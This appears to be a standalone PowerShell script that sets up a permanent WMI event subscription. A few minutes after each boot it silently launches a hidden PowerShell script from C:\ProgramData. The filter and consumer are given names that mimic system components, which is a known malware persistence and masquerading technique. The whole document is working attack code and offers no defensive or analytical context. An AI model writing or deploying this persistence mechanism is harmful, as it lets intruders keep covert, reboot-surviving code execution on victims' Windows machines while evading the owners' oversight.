$ns = 'root\subscription'
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"

$filter = Set-WmiInstance -Namespace $ns -Class __EventFilter -Arguments @{
    Name           = 'SCM Event Filter'
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = $query
}

$consumer = Set-WmiInstance -Namespace $ns -Class CommandLineEventConsumer -Arguments @{
    Name                = 'SCM Event Consumer'
    CommandLineTemplate = 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -f C:\ProgramData\scm.ps1'
}

Set-WmiInstance -Namespace $ns -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
